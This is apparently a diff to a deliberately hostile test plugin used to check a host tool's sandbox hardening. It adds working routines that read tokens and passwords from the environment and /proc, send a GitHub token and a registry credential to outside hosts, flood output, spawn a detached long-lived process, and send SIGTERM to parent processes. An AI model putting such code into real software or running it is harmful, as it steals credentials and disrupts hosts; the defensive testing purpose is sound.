@@ -3,13 +3,103 @@
  * BEHAVIOUR macro.  Each does one thing a broken or malicious in-house
  * plugin could do; test_harden.py checks the run keeps its promises.
  */
+#include <ctype.h>
+#include <dirent.h>
+#include <fcntl.h>
 #include <math.h>
+#include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
 
 #include <opsgrade/plugin.h>
+
+#if defined(BEHAVIOUR_SECRETS)
+/* Everything of the process's environment it can read, as one string:
+ * getenv() of the well-known names and /proc/self/environ. */
+static void
+leak_environment(struct og_ctx *ctx, const struct og_host *host)
+{
+	static const char *const names[] = {
+		"GITHUB_TOKEN", "GH_TOKEN", "OPSGRADE_SMTP_PASSWORD",
+		"OPSGRADE_REGISTRY_PASSWORD", "OPSGRADE_REGISTRY_USER",
+	};
+	char buf[65536];
+	size_t n = 0;
+	ssize_t k;
+	int fd;
+
+	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
+		const char *v = getenv(names[i]);
+
+		n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s=%s;",
+				      names[i], v ? v : "(unset)");
+	}
+	fd = open("/proc/self/environ", O_RDONLY);
+	if (fd >= 0) {
+		while (n + 1 < sizeof(buf) &&
+		       (k = read(fd, buf + n, sizeof(buf) - n - 1)) > 0)
+			n += (size_t)k;
+		close(fd);
+	}
+	for (size_t i = 0; i < n; i++)
+		if (buf[i] == '\0')
+			buf[i] = ';';
+	buf[n] = '\0';
+	host->fact_string(ctx, "hostile.secrets.environment", buf, NULL);
+	/* and the parent's environment, through /proc */
+	snprintf(buf, sizeof(buf), "/proc/%d/environ", (int)getppid());
+	fd = open(buf, O_RDONLY);
+	n = 0;
+	if (fd >= 0) {
+		while (n + 1 < sizeof(buf) &&
+		       (k = read(fd, buf + n, sizeof(buf) - n - 1)) > 0)
+			n += (size_t)k;
+		close(fd);
+	}
+	for (size_t i = 0; i < n; i++)
+		if (buf[i] == '\0')
+			buf[i] = ';';
+	buf[n] = '\0';
+	host->fact_string(ctx, "hostile.secrets.parent_environment", buf, NULL);
+}
+#endif
+
+#if defined(BEHAVIOUR_KILLPARENT)
+/* The pid of the nearest ancestor whose name is "opsgrade", found the way
+ * a malicious plugin would: walking /proc. */
+static pid_t
+find_host(void)
+{
+	pid_t pid = getppid();
+
+	for (int depth = 0; depth < 8 && pid > 1; depth++) {
+		char path[64], buf[512], *p;
+		long ppid;
+		int fd;
+		ssize_t n;
+
+		snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
+		fd = open(path, O_RDONLY);
+		if (fd < 0)
+			return 0;
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		if (n <= 0)
+			return 0;
+		buf[n] = '\0';
+		if (strstr(buf, "(opsgrade)"))
+			return pid;
+		p = strrchr(buf, ')');
+		if (!p || sscanf(p + 1, " %*c %ld", &ppid) != 1)
+			return 0;
+		pid = (pid_t)ppid;
+	}
+	return 0;
+}
+#endif
 
 static int
 collect(struct og_ctx *ctx, void *state)
@@ -55,6 +145,89 @@ collect(struct og_ctx *ctx, void *state)
 		host->event(ctx, &e);
 		e.time = INT64_MIN;
 		host->event(ctx, &e);
+	}
+#elif defined(BEHAVIOUR_SECRETS)
+	leak_environment(ctx, host);
+#elif defined(BEHAVIOUR_EXFIL)
+	{
+		/* the GitHub token to a host of its choosing, and a registry
+		 * credential over plain HTTP to a non-loopback host */
+		const char *url = getenv("HOSTILE_URL");
+		struct og_http_request a = { .struct_size = sizeof(a),
+					     .url = url, .auth = "github",
+					     .no_cache = true };
+		struct og_http_request b = { .struct_size = sizeof(b),
+					     .url = "http://192.0.2.1:9/v2/",
+					     .auth = "registry:192.0.2.1:9",
+					     .no_cache = true };
+		const struct og_http_request *reqs[] = { &a, &b };
+		struct og_http_response *resp[2] = { NULL, NULL };
+
+		if (url && host->http_batch(ctx, reqs, 2, resp) == 0)
+			for (int i = 0; i < 2; i++)
+				host->http_free(ctx, resp[i]);
+	}
+#elif defined(BEHAVIOUR_FLOOD)
+	/* unique facts without end, then (if ever) findings */
+	for (unsigned long i = 0;; i++) {
+		char key[64];
+
+		snprintf(key, sizeof(key), "hostile.flood.k%lu", i);
+		if (host->fact_bool(ctx, key, true, "flood") < 0)
+			break;
+	}
+#elif defined(BEHAVIOUR_FLOODF)
+	for (unsigned long i = 0;; i++) {
+		char id[64];
+		struct og_finding f = { .struct_size = sizeof(f), .id = id,
+					.severity = OG_SEV_LOW, .score = -1,
+					.title = "a finding in a flood of them" };
+
+		snprintf(id, sizeof(id), "FLOOD-%lu", i);
+		if (host->finding(ctx, &f) < 0)
+			break;
+	}
+#elif defined(BEHAVIOUR_SETSID)
+	{
+		/* a grandchild in its own session that outlives collect() */
+		const char *pidfile = getenv("HOSTILE_PIDFILE");
+		pid_t pid = fork();
+
+		if (pid == 0) {
+			setsid();
+			if (fork() == 0) {
+				FILE *f = pidfile ? fopen(pidfile, "w") : NULL;
+
+				char self[32] = "0";
+
+				/* its pid as the host sees it (in a PID
+				 * namespace getpid() is not) */
+				(void)!readlink("/proc/self", self, sizeof(self) - 1);
+				if (f) {
+					fprintf(f, "%s\n", self);
+					fclose(f);
+				}
+				for (int i = 0; i < 600; i++)
+					sleep(1);
+			}
+			_exit(0);
+		}
+		/* wait until the grandchild has written its pid */
+		for (int i = 0; pidfile && i < 500 && access(pidfile, R_OK); i++)
+			usleep(10000);
+		usleep(100000);
+	}
+#elif defined(BEHAVIOUR_KILLPARENT)
+	{
+		pid_t hostpid = find_host();
+
+		kill(getppid(), SIGTERM);
+		/* (never kill(-1): outside a PID namespace that is every
+		 * process of the user running the suite) */
+		if (hostpid > 0 && getenv("HOSTILE_FIND_HOST"))
+			kill(hostpid, SIGTERM);
+		sleep(1);
+		host->fact_bool(ctx, "hostile.killparent.survived", true, NULL);
 	}
 #endif
 	return 0;
